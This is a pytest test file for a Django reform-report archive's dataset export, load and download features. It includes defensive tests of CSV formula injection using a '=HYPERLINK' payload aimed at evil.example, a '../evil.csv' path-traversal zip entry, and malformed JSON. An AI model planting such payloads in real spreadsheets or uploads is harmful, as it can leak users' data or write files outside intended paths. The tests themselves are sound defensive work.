"""The curated dataset: export (JSON, zip of CSVs, one CSV per table), load into an empty archive,
and the public data page."""

import csv
import io
import json
import zipfile
from io import StringIO

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.utils import timezone
from django.utils.html import escape

from archive import dataset
from archive.models import (
    Category,
    City,
    DatedEvent,
    Document,
    Initiative,
    InitiativeAlias,
    Mention,
    MentionStatus,
    ReportedFigure,
)


def archive_counts():
    return [model.objects.count() for model in (Document, Mention, Initiative, InitiativeAlias, Category, City)]


def empty_archive():
    """Everything but the gazetteer, as after `migrate` on a new database."""
    Mention.objects.all().delete()
    Document.objects.all().delete()
    InitiativeAlias.objects.all().delete()
    Initiative.objects.all().delete()
    Category.objects.all().delete()


def downloaded(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content)


@pytest.fixture
def exported_json(seeded):
    return dataset.dataset_json(dataset.dataset_tables())


@pytest.mark.parametrize("kind", ["json", "zip"])
def test_export_load_export_gives_the_same_bytes(seeded, kind):
    make = dataset.dataset_json if kind == "json" else dataset.dataset_zip
    first = make(dataset.dataset_tables())
    events, figures = DatedEvent.objects.count(), ReportedFigure.objects.count()
    empty_archive()

    counts = dataset.dataset_load(tables=dataset.dataset_read(first))

    assert make(dataset.dataset_tables()) == first
    assert counts["documents"] == 5 and counts["mentions"] == Mention.objects.count() >= 40
    assert (DatedEvent.objects.count(), ReportedFigure.objects.count()) == (events, figures)  # re-extracted


def test_json_and_csv_hold_the_same_rows(seeded):
    tables = dataset.dataset_tables()
    from_json = dataset.dataset_read(dataset.dataset_json(tables))
    from_zip = dataset.dataset_read(dataset.dataset_zip(tables))
    assert from_json == from_zip == json.loads(json.dumps(tables))


def test_csv_files_start_with_a_bom_and_the_zip_explains_every_column(seeded):
    archive = zipfile.ZipFile(io.BytesIO(dataset.dataset_zip(dataset.dataset_tables())))
    assert sorted(archive.namelist()) == sorted(
        ["README.txt", "columns.csv", *(table.csv_filename for table in dataset.TABLES)]
    )
    mentions = archive.read("mentions.csv")
    assert mentions.startswith(
        b"\xef\xbb\xbfid,document,initiative,year,year_source,start,end,paragraph,passage,confirmed_at\r\n"
    )
    columns = list(csv.DictReader(io.StringIO(archive.read("columns.csv").decode("utf-8-sig"))))
    assert len(columns) == sum(len(table.columns) for table in dataset.TABLES)
    assert all(row["description_zh"] for row in columns)


def test_only_confirmed_mentions_and_no_user_identity_are_exported(seeded):
    curator = get_user_model().objects.create_user("curator-zhang", email="zhang@example.org")
    confirmed = Mention.objects.confirmed().first()
    Mention.objects.filter(pk=confirmed.pk).update(confirmed_by=curator)
    document = confirmed.document
    suggested = Mention.objects.create(
        document=document, initiative=confirmed.initiative, start=0, end=3, status=MentionStatus.SUGGESTED
    )
    rejected = Mention.objects.create(
        document=document, initiative=confirmed.initiative, start=1, end=4, status=MentionStatus.REJECTED
    )
    exported = dataset.dataset_json(dataset.dataset_tables())
    ids = {row["id"] for row in json.loads(exported)["tables"]["mentions"]}
    assert confirmed.pk in ids and suggested.pk not in ids and rejected.pk not in ids
    assert len(ids) == Mention.objects.confirmed().count()
    assert b"curator-zhang" not in exported and b"zhang@example.org" not in exported
    # Field names, not text: a description may well say "status" (the catalogue's 产业工人队伍建设改革 does).
    fields = {key for rows in json.loads(exported)["tables"].values() for row in rows for key in row}
    assert "mentions" in json.loads(exported)["tables"] and fields
    assert not fields & {"confirmed_by", "status", "confirmed_by_id"}


def test_passages_and_paragraphs_match_the_report_text(seeded):
    tables = dataset.dataset_tables()
    bodies = {row["id"]: row["body"] for row in tables["documents"]}
    for row in tables["mentions"]:
        body = bodies[row["document"]]
        assert body[row["start"] : row["end"]] == row["passage"]
        assert body.split("\n")[row["paragraph"] - 1].find(row["passage"][:5]) >= 0


def test_mentions_say_where_their_year_comes_from_and_keep_it_through_a_load(seeded, exported_json):
    """株洲's 河长制 is "no later than 2022" in the data too, and a load brings the source back."""
    rows = dataset.dataset_tables()["mentions"]
    assert {row["year_source"] for row in rows} <= {"stated", "context", "report"}
    river = Mention.objects.confirmed().get(document__city__slug="zhuzhou", initiative__slug="hezhangzhi")
    row = next(row for row in rows if row["id"] == river.pk)
    assert (row["year"], row["year_source"]) == (2022, "report")
    empty_archive()
    dataset.dataset_load(tables=dataset.dataset_read(exported_json))
    assert Mention.objects.get(pk=river.pk).year_source == "report"
    assert Mention.objects.filter(year_source="stated").count() == sum(r["year_source"] == "stated" for r in rows)


def test_relations_list_each_pair_once_and_cities_only_with_reports(seeded):
    tables = dataset.dataset_tables()
    pairs = [(row["initiative"], row["related"]) for row in tables["relations"]]
    assert pairs and all(a < b for a, b in pairs) and len(set(pairs)) == len(pairs)
    assert [row["slug"] for row in tables["cities"]] == ["changchun", "xiangtan", "xuchang", "yongzhou", "zhuzhou"]


def test_loading_keeps_ids_and_matches_gazetteer_cities_or_creates_them(seeded):
    tables = dataset.dataset_tables()
    original_ids = sorted(Document.objects.values_list("pk", flat=True))
    empty_archive()
    City.objects.filter(slug="xuchang").delete()  # a city the gazetteer here does not have
    cities = City.objects.count()
    dataset.dataset_load(tables=json.loads(json.dumps(tables)))
    assert sorted(Document.objects.values_list("pk", flat=True)) == original_ids
    assert City.objects.count() == cities + 1
    assert Document.objects.get(city__slug="xuchang").content_hash
    document = Document.objects.first()
    assert document.raw_text == document.body


def test_load_refuses_an_archive_that_already_has_reports(exported_json):
    with pytest.raises(dataset.DatasetError, match="档案不是空的"):
        dataset.dataset_load(tables=dataset.dataset_read(exported_json))


def _tampered(exported: bytes, change) -> bytes:
    document = json.loads(exported)
    change(document["tables"])
    return json.dumps(document, ensure_ascii=False).encode()


def _zip_with(exported_zip: bytes, name: str, content: bytes | None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(exported_zip))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for member in source.namelist():
            if member != name:
                target.writestr(member, source.read(member))
        if content is not None:
            target.writestr(name, content)
    return buffer.getvalue()


HOSTILE_JSON = {
    "missing column": (lambda t: t["documents"][0].pop("body"), "documents 表第 1 行：缺少列 body"),
    "bad int": (lambda t: t["mentions"][2].update(start="12"), "mentions 表第 3 行，列 start：应为整数"),
    "bool for int": (lambda t: t["documents"][0].update(year_start=True), "列 year_start：应为整数"),
    "passage mismatch": (
        lambda t: t["mentions"][0].update(passage="不是原文"),
        "mentions 表第 1 行，列 passage：与正文",
    ),
    "offsets outside the body": (lambda t: t["mentions"][0].update(end=10**9), "不在正文"),
    "unknown reference": (
        lambda t: t["mentions"][0].update(initiative="no-such"),
        "列 initiative：initiatives.slug 中没有 'no-such'",
    ),
    "duplicate id": (lambda t: t["documents"][1].update(id=t["documents"][0]["id"]), "列 id：重复"),
    "bad date": (lambda t: t["documents"][0].update(published_on="2020-13-01"), "列 published_on：应为日期"),
    "naive datetime": (lambda t: t["mentions"][0].update(confirmed_at="2024-01-01T10:00:00"), "须带时区"),
    "too long": (lambda t: t["documents"][0].update(title="长" * 301), "documents 表第 1 行，列 title"),
    "bad slug": (lambda t: t["initiatives"][0].update(slug="not a slug"), "initiatives 表第 1 行，列 slug"),
    "years reversed": (lambda t: t["documents"][0].update(year_start=2020, year_end=2010), "列 year_end"),
    # PostgreSQL refuses NUL in text; refused on SQLite too, so a dataset loads the same on both.
    "NUL in a title": (
        lambda t: t["documents"][0].update(title="株洲\x00报告"),
        "documents 表第 1 行，列 title：含有 NUL",
    ),
    "unknown year source": (lambda t: t["mentions"][0].update(year_source="guessed"), "列 year_source"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_JSON))
def test_a_bad_row_is_reported_by_table_row_and_column_and_nothing_is_written(exported_json, case):
    change, message = HOSTILE_JSON[case]
    data = _tampered(exported_json, change)
    empty_archive()
    before = archive_counts()
    with pytest.raises(dataset.DatasetError) as error:
        dataset.dataset_load(tables=dataset.dataset_read(data))
    assert message in str(error.value)
    assert archive_counts() == before


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xff\xd8\xff\xe0 binary", "UTF-8"),
        ("这不是 JSON".encode(), "不是合法的 JSON"),
        (b"[1, 2]", "不是本档案导出的数据集"),
        (b'{"format": "reform-archive-dataset", "version": 99, "tables": {}}', "版本"),
        (b'{"format": "reform-archive-dataset", "version": 1, "tables": {"cities": NaN}}', "不是合法的 JSON"),
        (b"[" * 100_000 + b"]" * 100_000, "JSON"),
        (b"PK\x03\x04 not really a zip", "不是完好的 zip"),
    ],
    ids=["binary", "not json", "not ours", "future version", "nan", "deeply nested", "broken zip"],
)
def test_files_that_are_not_a_dataset_are_refused(db, data, message):
    with pytest.raises(dataset.DatasetError, match=message):
        dataset.dataset_read(data)


def test_huge_files_are_refused_before_parsing(exported_json, tmp_path):
    path = tmp_path / "big.json"
    path.write_bytes(exported_json)
    with pytest.raises(dataset.DatasetError, match="文件过大"):
        dataset.dataset_read_path(path, max_bytes=len(exported_json) - 1)
    with pytest.raises(dataset.DatasetError, match="解压后过大"):
        zipped = dataset.dataset_zip(dataset.dataset_tables())
        dataset.dataset_read(zipped, max_bytes=len(zipped) + 1)


def test_csv_problems_name_the_file_row_and_column(seeded):
    zipped = dataset.dataset_zip(dataset.dataset_tables())
    header = "id,document,initiative,year,year_source,start,end,paragraph,passage,confirmed_at\r\n"
    with pytest.raises(dataset.DatasetError, match="mentions 表第 1 行，列 start：不是整数"):
        dataset.dataset_read(_zip_with(zipped, "mentions.csv", (header + "1,1,x,,report,abc,5,1,p,\r\n").encode()))
    with pytest.raises(dataset.DatasetError, match=r"mentions\.csv：列名应为"):
        dataset.dataset_read(_zip_with(zipped, "mentions.csv", b"id,document\r\n1,1\r\n"))
    with pytest.raises(dataset.DatasetError, match=r"zip 中缺少 documents\.csv"):
        dataset.dataset_read(_zip_with(zipped, "documents.csv", None))
    with pytest.raises(dataset.DatasetError, match="未知的文件"):
        dataset.dataset_read(_zip_with(zipped, "../evil.csv", b"x"))


def test_commands_export_and_load(seeded, tmp_path, search_dir):
    path = tmp_path / "dataset.zip"
    call_command("export_dataset", format="csv", output=path, stdout=StringIO())
    empty_archive()
    out = StringIO()
    call_command("load_dataset", str(path), stdout=out, stderr=StringIO())
    assert "已载入" in out.getvalue() and "检索索引已重建" in out.getvalue()
    with pytest.raises(CommandError, match="档案不是空的"):
        call_command("load_dataset", str(path), skip_search=True, stdout=StringIO())


@pytest.mark.parametrize(
    ("url", "content_type", "extension"),
    [
        ("/api/export/dataset.json", "application/json; charset=utf-8", ".json"),
        ("/api/export/dataset.zip", "application/zip", ".zip"),
        ("/api/export/mentions.csv", "text/csv; charset=utf-8", ".csv"),
    ],
)
def test_export_endpoints_are_public_downloads_with_a_dated_filename(client, seeded, url, content_type, extension):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"].startswith('attachment; filename="reform-archive-')
    assert response["Content-Disposition"].endswith(f'{today}{extension}"')
    assert client.post(url).status_code == 405


def test_api_export_has_absolute_document_urls_and_loads_back(client, seeded):
    exported = downloaded(client, "/api/export/dataset.json")
    rows = json.loads(exported)["tables"]["documents"]
    assert rows[0]["url"] == f"http://testserver/documents/{rows[0]['id']}/"
    empty_archive()
    dataset.dataset_load(tables=dataset.dataset_read(exported))
    assert downloaded(client, "/api/export/dataset.json") == exported


def test_each_table_downloads_as_its_own_csv(client, seeded):
    for table in dataset.TABLES:
        content = downloaded(client, f"/api/export/{table.name}.csv")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert rows[0] == table.column_names
    assert client.get("/api/export/users.csv").status_code == 404


def test_data_page_lists_every_column_of_every_table_with_row_counts(client, seeded):
    response = client.get("/data/")
    page = response.content.decode()
    assert response.status_code == 200
    for table in dataset.TABLES:
        assert f'id="table-{table.name}"' in page
        assert f'href="/api/export/{table.name}.csv"' in page
        for column in table.columns:
            assert f"<code>{column.name}</code>" in page
            assert escape(str(column.description)) in page
    assert 'href="/api/export/dataset.json"' in page and 'href="/api/export/dataset.zip"' in page
    assert f"{Mention.objects.confirmed().count()} 行" in page
    assert "load_dataset" in page
    assert client.get("/en/data/").status_code == 200


def test_every_page_links_to_the_data_page(client, seeded):
    assert 'href="/data/"' in client.get("/").content.decode()
    assert 'href="/en/data/"' in client.get("/en/").content.decode()


def test_data_page_runs_a_fixed_number_of_queries(client, seeded, django_assert_num_queries):
    with django_assert_num_queries(7):
        client.get("/data/")
    Document.objects.create(city=City.objects.get(slug="zhuzhou"), body="又一份报告的正文。" * 5, content_hash="x")
    with django_assert_num_queries(7):
        client.get("/data/")


def test_export_runs_one_query_per_table_and_one_per_chunk_of_mentions(
    seeded, monkeypatch, django_assert_num_queries, django_assert_max_num_queries
):
    """The mentions' passages need their reports' bodies: read once per chunk of mentions, not once
    per mention, nor all at once."""
    assert Mention.objects.confirmed().count() < 200
    with django_assert_num_queries(len(dataset.TABLES) + 1):
        dataset.dataset_tables()
    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 10)
    chunks = -(-Mention.objects.confirmed().count() // 10)
    with django_assert_max_num_queries(len(dataset.TABLES) + chunks):
        dataset.dataset_tables()


# Spreadsheet formulas ----------------------------------------------------------------------------

HOSTILE_AND_ORDINARY = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    "+1",
    "-5%",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "'just a quote",
    "'",
    "",
    "株洲市全面深化改革",
    "5-1",
    "a=b",
]


@pytest.mark.parametrize("value", HOSTILE_AND_ORDINARY)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(value):
    cell = dataset.cell_neutralise(value)
    assert not cell.startswith(tuple("=+-@\t\r"))
    assert dataset.cell_restore(cell) == value


def test_only_cells_that_could_start_a_formula_change():
    assert dataset.cell_neutralise("=1+1") == "'=1+1"
    assert dataset.cell_neutralise("'=1+1") == "''=1+1"
    assert dataset.cell_neutralise("'quoted") == "'quoted"
    assert dataset.cell_neutralise("株洲 -5%") == "株洲 -5%"


def _hostile_titles():
    """Seed reports given titles and sources a spreadsheet would run, or that merely look like it."""
    documents = list(Document.objects.order_by("pk"))
    values = ['=HYPERLINK("http://evil.example/?leak","x")', "+1", "-5%", "\r=1+1", "''+two quotes"]
    for document, title in zip(documents, values, strict=True):
        document.title = title
        document.save(update_fields=["title"])
    Document.objects.filter(pk=documents[0].pk).update(
        source="-5%", authors="@张三", original_filename="'=already quoted.txt"
    )
    return values


def _text_cells(zipped: bytes):
    archive = zipfile.ZipFile(io.BytesIO(zipped))
    for table in dataset.TABLES:
        rows = list(csv.DictReader(io.StringIO(archive.read(table.csv_filename).decode("utf-8-sig"))))
        for row in rows:
            for column in table.columns:
                if column.type == "text":
                    yield table.name, column.name, row[column.name]


def test_no_csv_cell_of_the_export_starts_a_formula(seeded):
    _hostile_titles()
    zipped = dataset.dataset_zip(dataset.dataset_tables())
    cells = list(_text_cells(zipped))
    assert ("documents", "title", "'" + '=HYPERLINK("http://evil.example/?leak","x")') in cells
    assert ("documents", "source", "'-5%") in cells
    assert not [cell for cell in cells if cell[2].startswith(tuple("=+-@\t\r"))]
    columns = zipfile.ZipFile(io.BytesIO(zipped)).read("columns.csv").decode("utf-8-sig")
    assert not [line for line in columns.splitlines() for cell in line.split(",") if cell.startswith(tuple("=+-@"))]


def test_each_table_csv_download_is_neutralised_too(client, seeded):
    _hostile_titles()
    content = downloaded(client, "/api/export/documents.csv").decode("utf-8-sig")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(content))]
    assert "'" + '=HYPERLINK("http://evil.example/?leak","x")' in titles
    assert not [title for title in titles if title.startswith(tuple("=+-@\t\r"))]


def test_hostile_and_ordinary_values_survive_csv_export_load_export(seeded):
    values = _hostile_titles()
    first = dataset.dataset_zip(dataset.dataset_tables())
    empty_archive()

    dataset.dataset_load(tables=dataset.dataset_read(first))

    assert list(Document.objects.order_by("pk").values_list("title", flat=True)[: len(values)]) == values
    assert Document.objects.filter(source="-5%", authors="@张三", original_filename="'=already quoted.txt").count() == 1
    assert dataset.dataset_zip(dataset.dataset_tables()) == first


def test_json_holds_values_as_they_are(seeded):
    _hostile_titles()
    titles = [row["title"] for row in json.loads(dataset.dataset_json(dataset.dataset_tables()))["tables"]["documents"]]
    assert titles[0] == '=HYPERLINK("http://evil.example/?leak","x")'


# Streaming ---------------------------------------------------------------------------------------


def test_json_export_is_exactly_json_dumps_though_written_in_chunks(seeded, monkeypatch):
    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 2)
    tables = dataset.dataset_tables()
    for shape in (tables, {**tables, "relations": []}, {}):
        document = {"format": dataset.FORMAT, "version": dataset.VERSION, "tables": shape}
        expected = (json.dumps(document, ensure_ascii=False, indent=1) + "\n").encode("utf-8")
        assert dataset.dataset_json(shape) == expected
    assert len(list(dataset.dataset_json_chunks(tables))) > len(tables)


def test_streamed_downloads_are_the_same_bytes_as_whole_exports(client, seeded, monkeypatch):
    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 3)
    tables = dataset.dataset_tables(base_url="http://testserver")
    assert downloaded(client, "/api/export/dataset.json") == dataset.dataset_json(tables)
    assert downloaded(client, "/api/export/dataset.zip") == dataset.dataset_zip(tables)
    assert downloaded(client, "/api/export/mentions.csv") == dataset.table_csv("mentions", tables["mentions"])
    assert zipfile.ZipFile(io.BytesIO(dataset.dataset_zip(tables))).testzip() is None


def test_a_download_reads_rows_as_it_writes_them(seeded, monkeypatch):
    """The first bytes go out before the reports are read, and a report is written before the next
    is read: nothing holds the whole archive."""
    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 1)
    read = []
    rows = dataset.dataset_rows

    def counting(name, **kwargs):
        for row in rows(name, **kwargs):
            read.append(name)
            yield row

    monkeypatch.setattr("archive.dataset.export.dataset_rows", counting)
    chunks = dataset.dataset_json_chunks(dataset.dataset_tables_lazily())
    next(chunks)
    assert "documents" not in read
    while "documents" not in read:
        next(chunks)
    assert read.count("documents") == 1 < Document.objects.count()


def test_a_head_request_does_not_run_the_export(client, seeded, django_assert_num_queries):
    with django_assert_num_queries(0):
        response = client.head("/api/export/dataset.zip")
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
